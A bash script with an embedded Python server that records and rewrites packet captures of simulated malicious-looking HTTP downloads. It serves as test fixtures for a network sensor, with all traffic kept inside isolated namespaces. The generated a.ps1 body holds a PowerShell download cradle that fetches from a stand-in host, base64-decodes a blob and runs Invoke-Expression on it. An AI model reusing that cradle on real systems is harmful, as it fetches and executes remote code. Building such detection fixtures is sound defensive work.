#!/usr/bin/env bash
# make-span-set.sh: record pcaps/span-clean.pcap, a real capture of HTTP downloads (LOLBin
# user agents, a keep-alive connection with a chunked response, a 1.5 MB download), then
# rewrite it with span-rewrite.py into what a SPAN port shows of the same traffic:
#
#   span-clean.pcap       the capture as recorded (one frame per packet, in wire order)
#   span-reordered.pcap   ACKs ahead of the data they acknowledge, data segments swapped in
#                         pairs, exact retransmissions, overlapping and boundary-crossing
#                         re-segmentations, FINs ahead of the last data segment
#   span-duplicated.pcap  every frame twice (a SPAN that mirrors ingress and egress)
#   span-both.pcap        the reordered capture with every frame twice
#
# Every variant carries exactly the bytes of the clean capture (span-rewrite.py checks
# that), so a sensor must log the same HTTP transactions, files, hashes and notices, and
# the same connection sizes, for all four (tests/span_check.py).
#
# Real clients talk to a real server: curl in the client namespace, a python3 stdlib
# http.server (HTTP/1.1, keep-alive) in the server namespace.  Two network namespaces
# joined by one veth pair, nothing else (the approach of make-http-set.sh, with other names
# and addresses so the scripts never collide):
#
#   lwspan-client  lwspan-c0  10.97.40.2/24  <---- veth ---->  lwspan-s0  10.97.40.1/24  lwspan-server
#
# tcpdump listens on lwspan-s0 in the server namespace (a SPAN port sits at the server's
# switch).  Host names are mapped with curl --resolve: the capture holds no DNS.
#
# Transactions, one TCP connection each except (d):
#   (a) Windows Installer          GET cdn.softupd.example.net/pkg/setup.msi       300 KB CFB/MSI header + seeded bytes
#   (b) CertUtil URL Agent         GET softupd.ddns.net/tools/nc.exe               200 KB PE32 headers + seeded bytes
#   (c) Microsoft-CryptoAPI/10.0   GET crl.softupd.example.net/a.ps1               40 KB PowerShell text
#   (d) browser, keep-alive        GET www.softupd.example.net/portal/index.html, /portal/updates.txt
#                                  (chunked), /portal/logo.png on one connection
#   (e) browser                    GET cdn.softupd.example.net/downloads/softupd-data.tar.gz
#                                  1.5 MB gzip as application/octet-stream; the server closes
#   (f) browser                    GET www.softupd.example.net/index.html; the server closes
#
# Every served body is deterministic (seeded python random, fixed header fields), so its
# SHA-256 is the same on every run; the hashes go to pcaps/span-set.sha256.  The capture is
# not byte-reproducible (ports, times, sequence numbers); span-rewrite.py is deterministic
# (the same clean capture always gives byte-identical variants).
#
# Needs root (namespaces, tcpdump).  Installs missing Debian packages with apt-get.
# Idempotent: removes namespaces left over from an earlier run, writes everything to a
# temporary directory and moves the set into place only when every check passes.  No packet
# leaves the two namespaces.
#
# Usage: sudo bash pcaps/make-span-set.sh [OUTPUT-DIR]     (default: pcaps/)
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
OUTDIR="$(cd "${1:-$HERE}" && pwd)"

NS_C=lwspan-client
NS_S=lwspan-server
IF_C=lwspan-c0
IF_S=lwspan-s0
IP_C=10.97.40.2
IP_S=10.97.40.1
MAC_C=02:10:97:40:00:02
MAC_S=02:10:97:40:00:01
PY=/usr/bin/python3

UA_BROWSER='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0'
UA_MSI='Windows Installer'
UA_CERTUTIL='CertUtil URL Agent'
UA_CRYPTOAPI='Microsoft-CryptoAPI/10.0'
H_CDN=cdn.softupd.example.net
H_DDNS=softupd.ddns.net
H_CRL=crl.softupd.example.net
H_WWW=www.softupd.example.net

VARIANTS=(span-reordered span-duplicated span-both)

# shellcheck source=netns-lib.sh
. "$HERE/netns-lib.sh"

# ---------------------------------------------------------------------------------------
# Tools.  command -> Debian package; install whatever is missing.
# ---------------------------------------------------------------------------------------
declare -A PKG_OF=(
    [ip]=iproute2 [ss]=iproute2 [ethtool]=ethtool [tcpdump]=tcpdump [tshark]=tshark
    [curl]=curl [sha256sum]=coreutils
)
mapfile -t missing < <(lw_missing_commands)
[ -x "$PY" ] || missing+=(python3)
lw_install "${missing[@]}"
[ -f "$HERE/span-rewrite.py" ] || die "span-rewrite.py is missing beside $0"

# Namespaces left by an interrupted run go first; netns-lib.sh cleans up on exit.
lw_remove_leftovers

TMP="$(mktemp -d /tmp/lolwire-span.XXXXXX)"
WWW="$TMP/www"      # what the server serves
GOT="$TMP/got"      # what the clients received
PC="$TMP/pcap"      # captures before they are moved into place
mkdir -p "$WWW" "$GOT" "$PC"

# ---------------------------------------------------------------------------------------
# lwspan.py: content builder and HTTP server (stdlib http.server, HTTP/1.1 keep-alive).
# ---------------------------------------------------------------------------------------
cat >"$TMP/lwspan.py" <<'PYEOF'
"""Helper for make-span-set.sh.

  lwspan.py build WWW              write the served files and WWW/manifest.tsv
  lwspan.py serve ADDR PORT WWW    HTTP/1.1 server (http.server, keep-alive)
"""
import base64, email.utils, gzip, hashlib, http.server, os, random, struct, sys, time, zlib

LAST_MODIFIED = "Mon, 01 Jan 2024 00:00:00 GMT"
SERVER = "lolwire-spand/1.0 Python/" + ".".join(map(str, sys.version_info[:3]))
THINK = 0.1   # seconds before each response: the server's pure ACK of the request shows

# uri -> (file, Content-Type, framing): "length" (Content-Length, keep-alive),
# "chunked" (Transfer-Encoding: chunked, keep-alive), "close" (Content-Length, then the
# server closes: its FIN follows the last data segment).
ROUTES = {
    "/pkg/setup.msi": ("setup.msi", "application/x-msi", "length"),
    "/tools/nc.exe": ("nc.exe", "application/octet-stream", "length"),
    "/a.ps1": ("a.ps1", "text/plain", "length"),
    "/portal/index.html": ("portal.html", "text/html; charset=utf-8", "length"),
    "/portal/updates.txt": ("updates.txt", "text/plain; charset=utf-8", "chunked"),
    "/portal/logo.png": ("logo.png", "image/png", "length"),
    "/downloads/softupd-data.tar.gz": ("softupd-data.tar.gz", "application/octet-stream", "close"),
    "/index.html": ("index.html", "text/html; charset=utf-8", "close"),
}
# Chunk sizes of /portal/updates.txt; the rest of the body is one last chunk.  The first
# three go out in writes of their own, the rest in one write (so chunk lines straddle
# segment boundaries).
CHUNKS = (4000, 1, 2500, 9000, 700, 5000)


def stream(seed, n):
    return random.Random(seed).randbytes(n)


def msi_like(size=300 * 1024):
    """A compound-file (CFB v3) header whose root directory entry carries the MSI CLSID
    {000C1084-0000-0000-C000-000000000046}, then seeded bytes: typed as an MSI by its bytes,
    though not an installable database."""
    b = bytearray(stream(0x4D5349, size))
    b[0:0x200] = bytes(0x200)
    b[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHHH", b, 0x18, 0x3E, 3, 0xFFFE, 9, 6)       # v3, 512-byte sectors
    struct.pack_into("<IIIIIIIII", b, 0x28, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<I", b, 0x4C, 0)                                   # DIFAT[0]: FAT in sector 0
    for i in range(1, 109):
        struct.pack_into("<I", b, 0x4C + 4 * i, 0xFFFFFFFF)
    fat = [0xFFFFFFFD, 0xFFFFFFFE] + [0xFFFFFFFF] * 126                  # FAT, directory (sector 1)
    struct.pack_into("<128I", b, 0x200, *fat)
    d = 0x400                                                            # sector 1: root entry
    b[d:d + 0x200] = bytes(0x200)
    name = "Root Entry".encode("utf-16-le")
    b[d:d + len(name)] = name
    struct.pack_into("<HBB", b, d + 0x40, len(name) + 2, 5, 1)
    struct.pack_into("<III", b, d + 0x44, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    b[d + 0x50:d + 0x60] = bytes.fromhex("84100c0000000000c000000000000046")
    struct.pack_into("<II", b, d + 0x74, 0xFFFFFFFE, 0)
    return bytes(b)


def pe32(size=200 * 1024):
    """PE32 headers (MZ, e_lfanew 0x80, 'PE\\0\\0', COFF i386, optional header, three
    sections covering the file), then seeded bytes.  Typed as an executable; never run."""
    b = bytearray(stream(0x4E43, size))
    b[0:0x400] = bytes(0x400)
    b[0:2] = b"MZ"
    struct.pack_into("<13H", b, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    struct.pack_into("<I", b, 0x3C, 0x80)
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    b[0x40:0x40 + len(stub)] = stub
    b[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", b, 0x84, 0x14C, 3, 0x5F5E1000, 0, 0, 0xE0, 0x0102)
    o = 0x98
    text, rdata = 0x20000, 0x8000
    data = size - 0x400 - text - rdata
    struct.pack_into("<HBBIIIIII", b, o, 0x10B, 14, 0, text, rdata + data, 0, 0x1000, 0x1000,
                     0x1000 + text)
    struct.pack_into("<III", b, o + 28, 0x400000, 0x1000, 0x200)         # ImageBase, alignments
    struct.pack_into("<HHHHHH", b, o + 40, 5, 1, 0, 0, 5, 1)
    image = (0x1000 + text + rdata + data + 0xFFF) & ~0xFFF
    struct.pack_into("<III", b, o + 52, 0, image, 0x400)                 # SizeOfImage, SizeOfHeaders
    struct.pack_into("<HH", b, o + 68, 3, 0x8140)                        # console; DYNBASE|NX|TSAWARE
    struct.pack_into("<IIIIII", b, o + 72, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    s = o + 0xE0
    raw = 0x400
    for i, (nm, sz, ch) in enumerate(((b".text", text, 0x60000020), (b".rdata", rdata, 0x40000040),
                                      (b".data", data, 0xC0000040))):
        struct.pack_into("<8sIIIIIIHHI", b, s + 40 * i, nm, sz, 0x1000 + raw - 0x400, sz, raw,
                         0, 0, 0, 0, ch)
        raw += sz
    return bytes(b)


def powershell(size=40 * 1024):
    rng = random.Random(0x505331)
    head = ("<#\n.SYNOPSIS\n    Software update helper (lolwire span test set: text only, "
            "never run).\n#>\n"
            "$ErrorActionPreference = 'SilentlyContinue'\n"
            "$wc = New-Object System.Net.WebClient\n"
            "$wc.Headers.Add('User-Agent', 'Microsoft-CryptoAPI/10.0')\n"
            "function Get-UpdateBlob {\n    param([string]$Name)\n"
            "    $wc.DownloadString(\"http://crl.softupd.example.net/blob/$Name\")\n}\n"
            "$blob = @(\n")
    out = [head]
    n = len(head)
    while n < size - 200:
        line = "    '%s'\n" % base64.b64encode(rng.randbytes(57)).decode()
        out.append(line)
        n += len(line)
    tail = (")\n$bytes = [System.Convert]::FromBase64String(($blob -join ''))\n"
            "$text = [System.Text.Encoding]::UTF8.GetString($bytes)\n"
            "Invoke-Expression $text\n")
    out.append(tail)
    return "".join(out).encode()


def portal_html():
    return ("<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\">"
            "<title>SoftUpd portal</title></head>\n<body>\n<h1>SoftUpd update portal</h1>\n"
            + "".join("<p>Release note %03d: fixes and improvements for component %d.</p>\n"
                      % (i, i * 7 % 13) for i in range(60))
            + "<img src=\"logo.png\" alt=\"logo\">\n</body>\n</html>\n").encode()


def updates_txt():
    rng = random.Random(0x555044)
    return "".join("%05d %s softupd-%d.%d.%d %s\n" % (
        i, "2024-01-%02d" % (1 + i % 28), rng.randrange(1, 9), rng.randrange(0, 20),
        rng.randrange(0, 400), rng.randbytes(12).hex()) for i in range(700)).encode()


def png(w=96, h=64):
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    rng = random.Random(0x504E47)
    rows = b"".join(b"\x00" + bytes(rng.randrange(256) if (x ^ y) & 4 else (x * 2) & 0xFF
                                    for x in range(w * 3)) for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


def index_html():
    return (b"<!DOCTYPE html>\n<html><head><title>SoftUpd</title></head>\n<body>\n"
            b"<p>SoftUpd: <a href=\"/portal/index.html\">portal</a>, "
            b"<a href=\"/downloads/softupd-data.tar.gz\">data</a>.</p>\n</body></html>\n")


def build(www):
    files = {
        "setup.msi": msi_like(),
        "nc.exe": pe32(),
        "a.ps1": powershell(),
        "portal.html": portal_html(),
        "updates.txt": updates_txt(),
        "logo.png": png(),
        # Stored deflate blocks (random input): the same bytes with every zlib.
        "softupd-data.tar.gz": gzip.compress(stream(0x444154, 1536 * 1024), 9, mtime=0),
        "index.html": index_html(),
    }
    for name, data in files.items():
        with open(os.path.join(www, name), "wb") as f:
            f.write(data)
    with open(os.path.join(www, "manifest.tsv"), "w") as f:
        for uri, (name, _ctype, _framing) in ROUTES.items():
            data = files[name]
            f.write("%s\t%s\t%d\t%s\n" % (uri, hashlib.sha256(data).hexdigest(), len(data), name))


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = SERVER
    sys_version = ""
    www = "."

    def head(self, ctype, extra):
        return ("HTTP/1.1 200 OK\r\nDate: %s\r\nServer: %s\r\nContent-Type: %s\r\n"
                "Last-Modified: %s\r\n%s\r\n"
                % (email.utils.formatdate(usegmt=True), SERVER, ctype, LAST_MODIFIED,
                   "".join("%s: %s\r\n" % kv for kv in extra))).encode()

    def do_GET(self):
        time.sleep(THINK)
        route = ROUTES.get(self.path)
        if route is None:
            self.send_error(404)
            return
        name, ctype, framing = route
        with open(os.path.join(self.www, name), "rb") as f:
            body = f.read()
        if framing == "chunked":
            self.wfile.write(self.head(ctype, [("Transfer-Encoding", "chunked")]))
            pos, parts = 0, []
            for n in CHUNKS:
                parts.append(b"%x\r\n%s\r\n" % (n, body[pos:pos + n]))
                pos += n
            parts.append(b"%x\r\n%s\r\n0\r\n\r\n" % (len(body) - pos, body[pos:]))
            for p in parts[:3]:
                self.wfile.write(p)
                time.sleep(0.02)
            self.wfile.write(b"".join(parts[3:]))
            return
        extra = [("Content-Length", str(len(body))), ("Accept-Ranges", "bytes")]
        if framing == "close":
            extra.append(("Connection", "close"))
            self.close_connection = True
        # Headers and body in one write, as most servers send them.
        self.wfile.write(self.head(ctype, extra) + body)

    def log_message(self, fmt, *args):
        sys.stderr.write("%s %s\n" % (self.address_string(), fmt % args))


def main():
    if sys.argv[1] == "build":
        build(sys.argv[2])
    elif sys.argv[1] == "serve":
        Handler.www = sys.argv[4]
        srv = http.server.ThreadingHTTPServer((sys.argv[2], int(sys.argv[3])), Handler)
        srv.daemon_threads = True
        srv.serve_forever()
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
PYEOF

log "building the served files"
"$PY" "$TMP/lwspan.py" build "$WWW"

# ---------------------------------------------------------------------------------------
# Namespaces, server, capture, clients.
# ---------------------------------------------------------------------------------------
lw_make_namespaces
for ns_if in "$NS_C:$IF_C" "$NS_S:$IF_S"; do
    mtu=$(ip -n "${ns_if%%:*}" -o link show "${ns_if#*:}" | sed -n 's/.* mtu \([0-9]*\) .*/\1/p')
    [ "$mtu" = 1500 ] || die "${ns_if#*:}: MTU $mtu, want 1500"
done

ip netns exec "$NS_S" "$PY" "$TMP/lwspan.py" serve "$IP_S" 80 "$WWW" 2>>"$TMP/server.log" &
PIDS+=($!)
for _ in $(seq 100); do
    [ -n "$(ins ss -Hlnt "sport = :80")" ] && break
    sleep 0.1
done
[ -n "$(ins ss -Hlnt "sport = :80")" ] || die "nothing listening on port 80: $(cat "$TMP/server.log")"

# The client advertises at most 64 KB of window (a route attribute in its namespace), so
# the server never bursts more than 45 segments into the veth: with the multi-megabyte
# windows of autotuning a burst sometimes overflows the receiving CPU's backlog, and the
# "clean" capture would hold real losses and retransmissions.
ip -n "$NS_C" route replace "${IP_S%.*}.0/24" dev "$IF_C" proto kernel scope link src "$IP_C" window 65535

CURLO=(-sS --fail --http1.1)
for h in "$H_CDN" "$H_DDNS" "$H_CRL" "$H_WWW"; do CURLO+=(--resolve "$h:80:$IP_S"); done
get() {  # get UA OUT URL [OUT URL ...]: one curl, one connection
    local ua=$1; shift
    local args=()
    while [ $# -gt 0 ]; do args+=(-o "$GOT/$1" "$2"); shift 2; done
    inc curl "${CURLO[@]}" -A "$ua" "${args[@]}" || die "curl ${args[*]} failed"
    sleep 0.3
}

record() {  # record PCAP: tcpdump on the server's veth end while the clients run
    ip -n "$NS_C" neigh flush dev "$IF_C"
    ip -n "$NS_S" neigh flush dev "$IF_S"
    rm -f "$GOT"/*
    ip netns exec "$NS_S" tcpdump -i "$IF_S" -w "$1" -s 0 -U -nn -Z root 2>"$TMP/tcpdump.log" &
    TCPDUMP_PID=$!
    PIDS+=("$TCPDUMP_PID")
    for _ in $(seq 100); do
        grep -q "listening on" "$TMP/tcpdump.log" 2>/dev/null && break
        sleep 0.1
    done
    grep -q "listening on" "$TMP/tcpdump.log" || die "tcpdump did not start: $(cat "$TMP/tcpdump.log")"
    sleep 0.5
    log "clients"
    get "$UA_MSI" setup.msi "http://$H_CDN/pkg/setup.msi"                                  # (a)
    get "$UA_CERTUTIL" nc.exe "http://$H_DDNS/tools/nc.exe"                                # (b)
    get "$UA_CRYPTOAPI" a.ps1 "http://$H_CRL/a.ps1"                                        # (c)
    get "$UA_BROWSER" portal.html "http://$H_WWW/portal/index.html" \
        updates.txt "http://$H_WWW/portal/updates.txt" logo.png "http://$H_WWW/portal/logo.png"  # (d)
    get "$UA_BROWSER" softupd-data.tar.gz "http://$H_CDN/downloads/softupd-data.tar.gz"    # (e)
    get "$UA_BROWSER" index.html "http://$H_WWW/index.html"                                # (f)
    sleep 1   # trailing FIN/ACKs
    kill -INT "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || die "tcpdump exited with $?: $(cat "$TMP/tcpdump.log")"
    grep -E "packets captured" "$TMP/tcpdump.log" | sed "s/^/$LW_NAME:   tcpdump: /" >&2
    for f in setup.msi nc.exe a.ps1 portal.html updates.txt logo.png softupd-data.tar.gz index.html; do
        cmp -s "$GOT/$f" "$WWW/$f" || die "$f: the client did not receive the served bytes"
    done
}

# Checks of the clean capture; fail=1 if any does not hold.
ok()   { printf '  ok    %s\n' "$1"; }
bad()  { printf '  FAIL  %s\n' "$1"; fail=1; }
want() { if [ "$2" = "$3" ]; then ok "$1: $2"; else bad "$1: got '$2', want '$3'"; return 1; fi; }
# Flow-control notes (window updates, a full window while curl writes to disk) are not
# anomalies; retransmissions, losses, reordering, duplicate ACKs and zero windows are.
PROBLEMS='tcp.analysis.flags && !tcp.analysis.window_update && !tcp.analysis.window_full'
verify() {  # verify PCAP
    P=$1
    fail=0
    ts() { tshark -n -r "$P" "$@" 2>/dev/null; }
    npk=$(tcpdump -nn -r "$P" 2>/dev/null | wc -l)
    [ "$npk" -gt 0 ] && ok "tcpdump reads $npk packets, $(stat -c %s "$P") bytes" || bad "tcpdump reads no packets"
    maxlen=$(ts -T fields -e frame.len | sort -n | tail -1)
    [ "$maxlen" -le 1514 ] && ok "largest frame $maxlen bytes" || bad "frame of $maxlen bytes"
    maxseg=$(ts -Y tcp -T fields -e tcp.len | sort -n | tail -1)
    [ "$maxseg" -le 1448 ] && ok "largest TCP segment $maxseg bytes" || bad "TCP segment of $maxseg bytes"
    want "packets not between $IP_C and $IP_S" "$(ts -Y "ip && !(ip.addr == $IP_C && ip.addr == $IP_S)" | wc -l)" 0
    want "TCP RSTs" "$(ts -Y 'tcp.flags.reset == 1' | wc -l)" 0
    want "TCP analysis problems" "$(ts -Y "$PROBLEMS" | wc -l)" 0 \
        || ts -Y "$PROBLEMS" | sed 's/^/        /' | head -5
    want "TCP connections" "$(ts -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0' | wc -l)" 6
    want "requests" "$(ts -Y http.request -T fields -e http.request.uri | tr '\n' ' ')" \
        "/pkg/setup.msi /tools/nc.exe /a.ps1 /portal/index.html /portal/updates.txt /portal/logo.png /downloads/softupd-data.tar.gz /index.html "
    want "response codes" "$(ts -Y http.response -T fields -e http.response.code | tr '\n' ' ')" \
        "200 200 200 200 200 200 200 200 "
    want "chunked responses" "$(ts -Y 'http.transfer_encoding == "chunked"' | wc -l)" 1
    want "Connection: close responses" "$(ts -Y 'http.connection == "close"' | wc -l)" 2
    want "FINs (one each way per connection)" "$(ts -Y 'tcp.flags.fin == 1' | wc -l)" 12
    rm -rf "$TMP/eo" && mkdir -p "$TMP/eo"
    ts -q --export-objects "http,$TMP/eo" >/dev/null
    exported="$(find "$TMP/eo" -type f -exec sha256sum {} + | cut -d' ' -f1 | sort -u)"
    while IFS=$'\t' read -r uri hash _size _name; do
        if grep -qx "$hash" <<<"$exported"; then ok "body $uri (tshark export) sha256 ${hash:0:16}…"
        else bad "body $uri: no object exported by tshark has sha256 $hash"; fi
    done <"$WWW/manifest.tsv"
    return "$fail"
}

# A busy machine can still drop a segment on the veth (a real retransmission in the
# "clean" capture): record again, up to three times.
P="$PC/span-clean.pcap"
for attempt in 1 2 3; do
    record "$P"
    log "verifying span-clean.pcap (attempt $attempt)"
    verify "$P" && break
    if [ -n "${LWSPAN_DEBUG_DIR:-}" ]; then
        cp "$P" "$LWSPAN_DEBUG_DIR/span-clean.attempt$attempt.pcap" && log "failed capture copied to $LWSPAN_DEBUG_DIR"
    fi
done
[ "$fail" -eq 0 ] || die "verification failed three times; nothing written to $OUTDIR"

log "rewriting into ${VARIANTS[*]}"
"$PY" "$HERE/span-rewrite.py" "$P" "$PC" || die "span-rewrite.py failed"
for v in "${VARIANTS[@]}"; do
    [ -s "$PC/$v.pcap" ] || die "span-rewrite.py wrote no $v.pcap"
    tcpdump -nn -r "$PC/$v.pcap" >/dev/null 2>&1 || die "tcpdump cannot read $v.pcap"
done

# Only the clean capture is kept: the variants are 12 MB that span-rewrite.py makes again,
# byte for byte, whenever tests/span_check.py runs (into a temporary directory).
chmod 0644 "$PC/span-clean.pcap"
mv -f "$PC/span-clean.pcap" "$OUTDIR/span-clean.pcap.tmp.$$"
mv -f "$OUTDIR/span-clean.pcap.tmp.$$" "$OUTDIR/span-clean.pcap"
awk -F'\t' '{ printf "%s  span-clean.pcap  %s\n", $2, $1 }' "$WWW/manifest.tsv" >"$OUTDIR/span-set.sha256.tmp.$$"
mv -f "$OUTDIR/span-set.sha256.tmp.$$" "$OUTDIR/span-set.sha256"
log "wrote span-clean.pcap and span-set.sha256 to $OUTDIR (variants checked, not kept)"

echo
echo "Captures (variants as tests/span_check.py makes them):"
for v in span-clean "${VARIANTS[@]}"; do
    f="$PC/$v.pcap"
    [ "$v" = span-clean ] && f="$OUTDIR/$v.pcap"
    printf '  %-22s %6d packets %9d bytes\n' "$v.pcap" \
        "$(tcpdump -nn -r "$f" 2>/dev/null | wc -l)" "$(stat -c %s "$f")"
done
